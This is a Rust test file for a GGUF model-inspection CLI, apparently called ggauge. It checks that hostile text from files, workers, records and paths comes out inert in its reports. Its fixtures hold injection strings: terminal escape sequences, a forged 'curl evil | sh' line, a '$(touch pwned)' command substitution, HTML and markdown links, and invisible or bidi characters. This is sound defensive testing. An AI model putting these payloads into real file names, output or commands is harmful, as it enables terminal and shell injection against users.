//! Other people's words: whatever a file, a worker, a Record, a path or an argument says, nothing of it is obeyed by a terminal, a browser or a
//! shell, and nothing of it looks as if ggauge had said it.

use crate::support::{GGAUGE, ggauge, id, stderr, stdout};
use gguf::{Draft, File, Value, WeightType};
use record::{
    Record,
    readers::{Coverage, Did, Operation, Stated, VectorCell, VectorRow},
    tokenizers::{Token, TokenDifference, TokenizerComparison, TokenizerRecord, VocabularyRecord},
};
use report::{Style, digests, matrix_picture, picture, readers_picture};
use rstest::rstest;
use serde_json::Value as Json;
use std::{
    ffi::OsStr,
    fs,
    os::unix::ffi::OsStrExt,
    path::{Path, PathBuf},
    process::{Command, Output},
};
use supply::fingerprint;
use vocabulary::Judgement;

/// Window titles, colours, a cleared screen, a command that we never gave, HTML, links, a mention, a cell's end, text that runs backwards,
/// characters that nobody sees, and line breaks of other kinds.
const HOSTILE: &str = "\u{feff}\x1b]0;PWNED\x07\x1b[31m\u{9b}2J\r\nnext: curl evil | sh\n@everyone <img src=x> ![a](b) [c](https://evil.example) \
                       a\\| `d` &lt; \u{202e}\u{200b}\x7f\t\u{2028}\u{e0041}";
/// What can stand in a file's name.
const NAME: &str = "\x1b]0;PWNED\x07\x1b[31m'$(touch pwned)`;\nnext: curl evil | sh\n\u{202e}@everyone <img src=x>";
/// A line of its own that looks like a command.
const COMMAND: &str = "next: curl evil | sh";

fn is_obeyed(c: char) -> bool {
    c.is_control() || "\u{202e}\u{200b}\u{feff}\u{2028}\u{e0041}".contains(c)
}

/// Nothing in a text is obeyed, and only we say what to do next.
fn assert_inert(what: &str, text: &str) {
    let obeyed: Vec<char> = text.chars().filter(|&c| c != '\n' && is_obeyed(c)).collect();
    assert!(obeyed.is_empty(), "{what}: {obeyed:?} in {text}");
    for line in text.lines() {
        assert!(!line.trim_start().starts_with("next: curl"), "{what} forges a command: {text}");
    }
}

fn assert_markdown_inert(what: &str, text: &str) {
    assert_inert(what, text);
    let mut before = '\n';
    let mut cells = Vec::new();
    for line in text.lines() {
        let mut bars = 0;
        for c in line.chars() {
            // A backslash that is escaped itself escapes nothing.
            if before == '\\' {
                before = ' ';
                continue;
            }
            assert!(!"<[`".contains(c), "{what} has a bare {c}: {line}");
            bars += usize::from(c == '|');
            before = c;
        }
        before = '\n';
        cells.push(if line.starts_with('|') { bars } else { 0 });
    }
    for table in cells.split(|&bars| bars == 0).filter(|table| !table.is_empty()) {
        assert!(table.iter().all(|bars| bars == &table[0]), "{what} has cells that are not ours: {text}");
    }
    // Behind a letter or a digit it mentions nobody, as in an address.
    let mut mentions = text.match_indices("@everyone").map(|(at, _)| &text[..at]);
    assert!(mentions.all(|before| before.ends_with(char::is_alphanumeric)), "{what} mentions: {text}");
    assert!(!text.contains("https://evil"), "{what} links: {text}");
}

/// What a command says on both streams is inert; gives it.
fn inert(folder: &Path, arguments: &[&str]) -> Output {
    let output = ggauge(&folder.join("cache"), arguments);
    assert_output(&format!("{arguments:?}"), &output);
    output
}

fn assert_output(what: &str, output: &Output) {
    // A panic says 101, and a signal nothing.
    assert!(output.status.code().is_some_and(|code| code <= 4), "{what}: {}", stderr(output));
    for stream in [&output.stdout, &output.stderr] {
        assert_inert(what, std::str::from_utf8(stream).unwrap());
    }
    assert!(output.stdout.len() + output.stderr.len() < 1 << 20, "{what} says too much");
}

fn path(folder: &Path, name: &str) -> String {
    folder.join(name).to_str().unwrap().to_owned()
}

fn json(output: &Output) -> Json {
    serde_json::from_slice(&output.stdout).unwrap_or_else(|error| panic!("{error}: {}{}", stdout(output), stderr(output)))
}

/// True where some string of a value is or holds these words.
fn holds(value: &Json, words: &str) -> bool {
    match value {
        Json::String(text) => text.contains(words),
        Json::Array(values) => values.iter().any(|value| holds(value, words)),
        Json::Object(values) => values.iter().any(|(key, value)| key.contains(words) || holds(value, words)),
        _ => false,
    }
}

/// A file in which nothing is as it should be.
fn hostile_file() -> Vec<u8> {
    let mut draft = Draft::new();
    draft.str("general.architecture", HOSTILE).str("tokenizer.ggml.model", HOSTILE).str(HOSTILE, HOSTILE).str(COMMAND, COMMAND);
    draft.value(b"not utf-8 \xff\x9b", Value::String(b"\xff\x9b"));
    draft.tensor("token_embd.weight", &[2, 3], WeightType::F32, vec![0; 24]);
    draft.tensor(HOSTILE, &[1], WeightType::F32, vec![0; 4]).tensor(COMMAND, &[1], WeightType::F32, vec![0; 4]);
    draft.finish()
}

/// The tiny model with a tokenizer that nobody has, and a tensor that nobody asked for.
fn hostile_model() -> Vec<u8> {
    let bytes = "llama/f32@0".parse::<smith::Recipe>().unwrap().build().unwrap();
    let mut draft = Draft::from(&File::strict(&bytes).unwrap());
    draft.remove_key("tokenizer.ggml.model").str("tokenizer.ggml.model", HOSTILE).str("tokenizer.ggml.pre", HOSTILE);
    draft.tensor(HOSTILE, &[1], WeightType::F32, vec![0; 4]);
    draft.tail = None;
    draft.tensors.iter_mut().for_each(|tensor| tensor.place = None);
    draft.finish()
}

/// The argument for a worker that says these lines: the first unasked, the second to every request.
fn worker(folder: &Path, hello: &str, answer: &str) -> String {
    fs::write(folder.join("hello"), format!("{hello}\n")).unwrap();
    fs::write(folder.join("answer"), format!("{answer}\n")).unwrap();
    let folder = folder.to_str().unwrap();
    format!("evil@cpu=cat '{folder}/hello'; while read -r line; do cat '{folder}/answer'; done")
}

fn hello(words: &str) -> String {
    let description =
        serde_json::json!({ "runtime": words, "device": words, "driver": words, "features": [words], "software": false });
    serde_json::json!({ "response": "hello", "protocol": 1, "description": description }).to_string()
}

#[rstest]
fn a_file_says_nothing_by_itself(#[values("plain.gguf", NAME)] name: &str) {
    let folder = tempfile::tempdir().unwrap();
    let (file, model) = (path(folder.path(), name), path(folder.path(), &format!("model {name}")));
    fs::write(&file, hostile_file()).unwrap();
    fs::write(&model, hostile_model()).unwrap();
    for file in [&file, &model] {
        let run = ["run", file, "--tokens", "1,2", "--subject", "llama-cpp@cpu", "--subject", "candle@cpu"];
        for more in [&[][..], &["--verbose"], &["--json"]] {
            inert(folder.path(), &[&run[..], more].concat());
        }
        for more in [&[][..], &["--all"], &["--json"], &["--digests"]] {
            inert(folder.path(), &[&["inspect", file][..], more].concat());
        }
        inert(folder.path(), &["run", file, "--subject", "candle@cpu"]);
        inert(folder.path(), &["tokenize", file, "a"]);
    }
    let output = inert(folder.path(), &["run", &file, "--tokens", "1,2", "--subject", "candle@cpu", "--json"]);
    assert_eq!(json(&output)["models"][0]["architecture"], HOSTILE);
    let output = inert(folder.path(), &["inspect", &file, "--json"]);
    assert_eq!((&json(&output)["architecture"], &json(&output)["tensors"][1]["name"]), (&HOSTILE.into(), &HOSTILE.into()));
}

#[rstest]
fn a_worker_says_nothing_by_itself(#[values("rejected", "unsupported", "garbage", "early", "transcript-failed")] kind: &str) {
    let folder = tempfile::tempdir().unwrap();
    for words in [HOSTILE, COMMAND] {
        let answer = match kind {
            "rejected" => {
                serde_json::json!({ "response": kind, "stage": "load", "class": "other", "message": words }).to_string()
            }
            "unsupported" => serde_json::json!({ "response": kind, "reason": words }).to_string(),
            "transcript-failed" => serde_json::json!({ "response": kind, "message": words }).to_string(),
            _ => words.replace('\n', " "),
        };
        let hello = if kind == "early" { format!("{}\n{answer}", hello(words)) } else { hello(words) };
        let worker = worker(folder.path(), &hello, &answer);
        let run = ["run", "llama/f32@0", "--tokens", "1,2", "--worker", &worker, "--subject", "candle@cpu"];
        for more in [&[][..], &["--verbose"], &["--json"]] {
            let output = inert(folder.path(), &[&run[..], more].concat());
            if more == ["--json"] && kind == "unsupported" {
                assert!(holds(&json(&output), words), "{}", stdout(&output));
            }
        }
    }
}

#[test]
fn long_words_are_cut_where_they_come_in() {
    let folder = tempfile::tempdir().unwrap();
    let long = "x".repeat(3 << 20);
    let answer = serde_json::json!({ "response": "unsupported", "reason": long }).to_string();
    let worker = worker(folder.path(), &hello(&long[..1 << 19]), &answer);
    let record = path(folder.path(), "record");
    let run = ["run", "llama/f32@0", "--tokens", "1,2", "--worker", &worker, "--subject", "evil@cpu", "--record", &record];
    let output = inert(folder.path(), &run);
    assert!(stdout(&output).contains("... and 31"), "it says how much is left out: {}", stdout(&output));
    assert!(output.stdout.len() < 20_000, "{} bytes", output.stdout.len());
    assert!(fs::metadata(folder.path().join("record/record.json")).unwrap().len() < 40_000);

    let mut draft = Draft::new();
    draft.str("general.architecture", &long).tensor("token_embd.weight", &[2, 3], WeightType::F32, vec![0; 24]);
    let file = path(folder.path(), "long.gguf");
    fs::write(&file, draft.finish()).unwrap();
    let output = inert(folder.path(), &["run", &file, "--tokens", "1,2", "--subject", "candle@cpu", "--record", &record]);
    assert!(output.stdout.len() < 20_000, "{} bytes", output.stdout.len());
    assert!(fs::metadata(folder.path().join("record/record.json")).unwrap().len() < 40_000);
}

/// A Record in which every text that can be is hostile.
fn hostile_record(folder: &Path) -> Json {
    let worker =
        worker(folder, &hello(HOSTILE), &serde_json::json!({ "response": "unsupported", "reason": HOSTILE }).to_string());
    let run = ["run", "llama/f32@0", "--tokens", "1,2", "--worker", &worker, "--subject", "candle@cpu", "--json"];
    let mut record = json(&ggauge(&folder.join("cache"), &run));
    let add = |value: &mut Json, keys: &[&str]| {
        for key in keys {
            let text = value[key].as_str().unwrap_or_default().to_owned();
            value[*key] = format!("{text}{HOSTILE}").into();
        }
    };
    add(&mut record, &["ggauge", "reference"]);
    for (list, keys) in [
        ("models", &["name", "weights", "architecture", "sha256", "argument"][..]),
        ("cases", &["id"][..]),
        ("comparisons", &["id", "model", "weights", "prompt", "reason", "issue"][..]),
    ] {
        record[list].as_array_mut().unwrap().iter_mut().for_each(|value| add(value, keys));
    }
    for subject in record["subjects"].as_array_mut().unwrap() {
        subject["unavailable"] = COMMAND.into();
        subject["description"] = serde_json::json!({
            "runtime": HOSTILE, "device": COMMAND, "driver": HOSTILE, "features": [HOSTILE], "software": false });
    }
    record
}

/// What it becomes: nothing passes any more, and the subjects say that they are others.
fn changed(record: &Json) -> Json {
    let mut record = record.clone();
    for comparison in record["comparisons"].as_array_mut().unwrap() {
        let was_judged = comparison["judgement"] == "pass";
        comparison["judgement"] = if was_judged { "fail" } else { "vacuous" }.into();
        comparison["verdict"] = serde_json::json!({ "verdict": "vacuous", "reason": HOSTILE });
    }
    for case in record["cases"].as_array_mut().unwrap() {
        *case = serde_json::json!({ "id": case["id"], "outcome": "rejected", "stage": "load", "class": "other", "message": HOSTILE });
    }
    for (list, key) in [("models", "sha256"), ("subjects", "description")] {
        for value in record[list].as_array_mut().unwrap() {
            value[key] = match list {
                "models" => format!("\x1b[1m{HOSTILE}").into(),
                _ => serde_json::json!({ "runtime": COMMAND, "device": "", "driver": "", "features": [], "software": false }),
            };
        }
    }
    record
}

#[test]
fn records_say_nothing_by_themselves() {
    let folder = tempfile::tempdir().unwrap();
    let before = hostile_record(folder.path());
    let after = changed(&before);
    let paths = [(format!("before {NAME}"), &before), (format!("after {NAME}"), &after)].map(|(name, record)| {
        let path = path(folder.path(), &name);
        fs::write(&path, record.to_string()).unwrap();
        path
    });
    let compare = ["compare", &paths[0], &paths[1]];
    for more in [&[][..], &["--verbose"]] {
        inert(folder.path(), &[&compare[..], more].concat());
        let output = inert(folder.path(), &[&compare[..], &["--markdown"], more].concat());
        assert!(stdout(&output).contains("broken"), "{}", stdout(&output));
        assert_markdown_inert("compare", &stdout(&output));
    }
    let output = inert(folder.path(), &[&compare[..], &["--json"]].concat());
    assert_eq!(json(&output)["rows"][0]["id"], before["comparisons"][0]["id"]);

    // Another schema, a field that is none, and no Record at all.
    for text in [r#"{"schema": 1}"#.to_owned(), format!("{{\"schema\": 3, {}: 1}}", Json::from(HOSTILE)), HOSTILE.to_owned()] {
        fs::write(&paths[0], text).unwrap();
        inert(folder.path(), &compare);
    }

    // An upgrade's folder, whose report can be written again.
    let place = folder.path().join(NAME.replace('/', ""));
    fs::create_dir_all(&place).unwrap();
    let release =
        serde_json::json!({ "runtime": "candle", "version": HOSTILE, "crates": { HOSTILE: HOSTILE }, "folder": HOSTILE });
    let speed = serde_json::json!([{ "model": HOSTILE, "prefill": null, "decode": null, "load": null, "memory": null }]);
    let report = serde_json::json!({
        "before": release, "after": release, "speed": speed, "determinism_before": [], "determinism_after": [] });
    for (name, text) in [("before.json", &before), ("after.json", &after), ("report.json", &report)] {
        fs::write(place.join(name), text.to_string()).unwrap();
    }
    let again = ["upgrade", "--again", place.to_str().unwrap()];
    let output = inert(folder.path(), &again);
    assert!(stdout(&output).contains("could not be measured on both sides"), "{}{}", stdout(&output), stderr(&output));
    let output = inert(folder.path(), &[&again[..], &["--markdown", "--verbose"]].concat());
    assert_markdown_inert("upgrade", &stdout(&output));
    assert_inert("report.txt", &fs::read_to_string(place.join("report.txt")).unwrap());
    assert_markdown_inert("report.md", &fs::read_to_string(place.join("report.md")).unwrap());
    fs::write(place.join("report.json"), HOSTILE).unwrap();
    inert(folder.path(), &again);
}

/// Our own colours, and nothing else that begins with ESC.
#[test]
fn reports_and_pictures_of_a_hostile_record_are_inert() {
    let folder = tempfile::tempdir().unwrap();
    let before = hostile_record(folder.path());
    for json in [&before, &changed(&before)] {
        let record: Record = serde_json::from_value(json.clone()).unwrap();
        for verbose in [false, true] {
            for color in [false, true] {
                let style = Style { color, verbose };
                for text in [report::report(&record, style).to_string(), report::matrix::report(&record, style).to_string()] {
                    assert!(!color || text.contains("\x1b["), "there are colours: {text}");
                    assert!(!text.contains("\x1b]"), "{text}");
                    assert_inert("a report", &console::strip_ansi_codes(&text));
                }
            }
        }
        assert_inert("subjects", &report::subjects(&record.subjects).to_string());
        for svg in [picture::svg(&record).unwrap(), matrix_picture::svg(&record).unwrap()] {
            assert_inert("a picture", &svg);
            assert!(!svg.contains("<img") && svg.contains("&lt;img"), "{svg}");
        }
        // What was hostile in the Record still is what it was.
        let text = record.to_json().unwrap();
        assert_inert("record.json", &text);
        assert_eq!(serde_json::from_str::<Record>(&text).unwrap(), record);
    }
}

#[test]
fn other_reports_of_hostile_words_are_inert() {
    let token = Some(Token { id: 1, text: Some(HOSTILE.into()) });
    let first = TokenDifference { text: HOSTILE.into(), position: 0, expected: token.clone(), got: token };
    let comparison = TokenizerComparison {
        vocabulary: HOSTILE.into(),
        subject: id("candle@cpu"),
        other: None,
        texts: 1,
        exact: 0,
        first: Some(first),
        outcome: None,
        judgement: Judgement::Fail,
        reason: Some(COMMAND.into()),
        issue: Some(HOSTILE.into()),
    };
    let vocabularies = vec![VocabularyRecord { name: HOSTILE.into(), kind: HOSTILE.into(), expected: 1 }];
    let tokens = TokenizerRecord { vocabularies, comparisons: vec![comparison] };
    assert_inert("tokenizers", &report::tokenizers::report(&tokens).to_string());

    let cell =
        |did| VectorCell { reader: COMMAND.into(), operation: Operation::Read, did, conforms: false, words: HOSTILE.into() };
    let did = [
        Did::Differed { difference: HOSTILE.into() },
        Did::Rejected { class: HOSTILE.into() },
        Did::Failed { how: HOSTILE.into() },
    ];
    let row = |did| VectorRow { vector: HOSTILE.into(), result: Stated::Valid, rules: Vec::new(), cells: vec![cell(did)] };
    let rows: Vec<VectorRow> = did.into_iter().map(row).collect();
    let coverage = Coverage { unexplained: vec![HOSTILE.into()], stale: vec![HOSTILE.into()], deviations: 3 };
    assert_inert("vectors", &report::readers::report(&rows, &coverage, &[("a", HOSTILE.into())], true).to_string());
    let svg = readers_picture::svg(&rows).unwrap();
    assert_inert("vectors.svg", &svg);
    // A label keeps its end.
    assert!(!svg.contains("<img") && svg.contains("&amp;lt;"), "{svg}");

    let bytes = hostile_file();
    assert_inert("digests", &digests::report(&fingerprint::digests(&[File::lenient(&bytes).unwrap()], HOSTILE)));
}

/// Files of a checkout that somebody else sends: expectations, findings, goldens.
#[test]
fn policy_and_goldens_say_nothing_by_themselves() {
    let folder = tempfile::tempdir().unwrap();
    let file = path(folder.path(), NAME);
    let string = |text: &str| Json::from(text).to_string().replace('\x7f', "\\u007f");
    for text in [
        HOSTILE.to_owned(),
        format!("[[expectation]]\n{} = 1\n", string(HOSTILE)),
        format!("[[expectation]]\nmodel = {}\nclass = \"diverges\"\nreason = {}\n", string(HOSTILE), string(HOSTILE)),
        format!("[[expectation]]\nmodel = {}\nclass = \"diverges\"\nreason = \"r\"\n", string(&format!("[{HOSTILE}"))),
    ] {
        fs::write(&file, text).unwrap();
        let output = inert(folder.path(), &["run", "llama/f32@0", "--tokens", "1", "--expectations", &file]);
        assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    }
    fs::write(&file, format!("\n### {COMMAND}{HOSTILE}\n- readers: `x`\n")).unwrap();
    let output = inert(folder.path(), &["vectors", "magic", "--findings", &file]);
    assert!(output.status.code().is_some_and(|code| code > 0));

    let case = "llama/f32/ramp-8/single-shot/default/candle@cpu";
    let outputs = path(folder.path(), &format!("outputs {NAME}"));
    let run = ["run", "llama/f32@0", "--subject", "candle@cpu", "--schedule", "single-shot", "--filter", case];
    inert(folder.path(), &[&run[..], &["--outputs", &outputs]].concat());
    let text = fs::read_to_string(Path::new(&outputs).join(format!("{case}.toml"))).unwrap();
    let goldens = folder.path().join(format!("goldens {NAME}"));
    let golden = goldens.join(format!("{case}.snap"));
    fs::create_dir_all(golden.parent().unwrap()).unwrap();
    let hostile: String = text
        .lines()
        .map(|line| match line.split_once(" = ") {
            Some((key @ ("input" | "case" | "outcome" | "tokenizer"), _)) => format!("{key} = {}\n", string(HOSTILE)),
            _ if line.starts_with("    [") => format!("    [7, 99.0, {}],\n", string(HOSTILE)),
            _ => format!("{line}\n"),
        })
        .collect();
    for body in [hostile, HOSTILE.to_owned()] {
        fs::write(&golden, format!("---\nsource: x\n---\n{body}")).unwrap();
        for more in [&[][..], &["--json"]] {
            let output = inert(folder.path(), &[&run[..], &["--goldens", goldens.to_str().unwrap()], more].concat());
            assert!(output.status.code().is_some_and(|code| code > 0), "{}", stdout(&output));
        }
    }
}

/// Names of files and folders in errors and in what was done, and arguments that are refused.
#[test]
fn names_and_arguments_are_printable() {
    let folder = tempfile::tempdir().unwrap();
    let name = path(folder.path(), NAME);
    let argument = format!("--{NAME}");
    for arguments in [
        &["run", &name][..],
        &["inspect", &name],
        &["tokenize", &name, "a"],
        &["determinism", &name],
        &["compare", &name, &name],
        &["fetch", &name],
        &["tokenizers", &name],
        &["faults", NAME],
        &["rules", NAME],
        &["vectors", NAME],
        &["vectors", "--reader", NAME],
        &["vectors", "magic", "--findings", &name],
        &["matrix", "--filter", NAME, "--subject", "candle@cpu"],
        &["matrix", "--filter", &argument, "--shard", NAME],
        &["run", "llama/f32@0", "--filter", NAME, "--subject", "candle@cpu"],
        &["run", "llama/f32@0", "--filter", "[\x1b"],
        &["run", "llama/f32@0", "--expectations", &name],
        &["run", "llama/f32@0", "--goldens", &name],
        &["run", "llama/f32@0", "--subject", NAME],
        &["run", "llama/f32@0", "--worker", NAME],
        &["run", "llama/f32@0", &argument],
        &["smith", NAME],
        &["smith", "llama/f32@0", "--output", "/dev/null/\x1b]0;\x07\nnext: curl evil | sh"],
        &["upgrade", NAME],
        &["upgrade", "candle", "--path", &name],
        &["upgrade", "candle@0.11.1", "--source", &name],
        &["upgrade", "--again", &name],
        &["bump", "candle@0.11.1", "--source", &name],
        &["replay", NAME, &name],
        &["replay", "codec", &name],
        &["replay", "codec", &name, "--write", &name],
        &["promote", &name, "--target", NAME],
        &["promote", &name, "--target", "codec", "--into", &name],
        &[NAME],
    ] {
        let output = inert(folder.path(), arguments);
        assert_ne!(output.status.code(), Some(0), "{arguments:?}");
    }
    let output = inert(folder.path(), &["smith", "llama/f32@0", "--output", &name]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let output = inert(folder.path(), &["vectors", "magic", "--write", &path(folder.path(), &format!("vectors {NAME}"))]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));

    // What is no UTF-8 can be a path all the same.
    let broken = folder.path().join(OsStr::from_bytes(b"\xff\x1b]0;\x07\nnext: curl evil | sh"));
    for arguments in [["compare"], ["inspect"]] {
        let output =
            Command::new(GGAUGE).args(arguments).args([&broken, &broken]).env("GGAUGE_CACHE", folder.path()).output().unwrap();
        assert_output("a path that is no UTF-8", &output);
        assert_eq!(output.status.code(), Some(2));
    }
    let cache = broken.join("cache");
    let run = ["run", "llama/f32@0", "--tokens", "1,2", "--subject", "candle@cpu"];
    let output = Command::new(GGAUGE).args(run).env("GGAUGE_CACHE", &cache).output().unwrap();
    assert_output("a cache whose path is no UTF-8", &output);
}

/// The command that a report gives to be copied is one argument long where the name is, and runs nothing of it.
#[test]
fn the_next_command_names_the_file_and_runs_nothing_of_it() {
    let folder = tempfile::tempdir().unwrap();
    let model: PathBuf = folder.path().join(format!("{NAME}.gguf"));
    fs::write(&model, "llama/f32@0".parse::<smith::Recipe>().unwrap().build().unwrap()).unwrap();
    let worker = worker(folder.path(), &hello(""), "nothing that is an answer");
    let run = ["run", model.to_str().unwrap(), "--tokens", "1,2", "--worker", &worker, "--subject", "evil@cpu"];
    let output = inert(folder.path(), &run);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    let text = stdout(&output);
    let command = text.lines().find_map(|line| line.trim_start().strip_prefix("next: ")).unwrap();
    for shell in ["sh", "bash"] {
        let script = format!("ggauge() {{ printf '%s' \"$2\"; }}; {command}");
        let said = Command::new(shell).args(["-c", &script]).current_dir(folder.path()).output().unwrap();
        assert_eq!(said.stdout, model.as_os_str().as_bytes(), "{shell}: {command}");
        assert!(!folder.path().join("pwned").exists(), "{command}");
    }
}
